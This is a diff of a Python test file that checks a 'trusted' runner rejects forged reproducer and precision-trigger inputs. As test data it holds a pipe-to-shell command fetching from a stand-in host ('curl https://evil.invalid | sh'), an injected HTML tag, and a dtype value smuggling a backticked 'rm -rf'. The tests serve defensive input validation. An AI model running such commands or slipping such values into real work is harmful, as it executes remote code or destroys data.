@@ -299,3 +299,18 @@ def test_a_module_named_like_the_standard_library_is_refused() -> None:
                  init=[["args", "curl https://evil.invalid | sh"], ["shell", True]])
     text, refused = trusted_reproducer(_record(plan), finding)  # type: ignore[arg-type]
     assert text is None and refused is not None and "standard library" in refused
+
+
+def test_a_triggers_precision_block_is_kept_only_in_numcheck_words() -> None:
+    from runners.trusted import trusted_trigger
+
+    block = {"dtype": "bfloat16", "mode": "autocast", "float32": "finite"}
+    assert trusted_trigger({"where": "forward", "precision": block}) == \
+        {"where": "forward", "precision": block}
+    assert trusted_trigger({"precision": {**block, "note": "<img src=x>"}}) == \
+        {"precision": block}
+    for forged in ({**block, "dtype": "float16 `rm -rf`"}, {**block, "float32": "fine"},
+                   "float16", {"dtype": "float16"}, {}):
+        assert trusted_trigger({"where": "forward", "precision": forged}) == \
+            {"where": "forward"}, forged
+    assert trusted_trigger({"where": "forward"}) == {"where": "forward"}
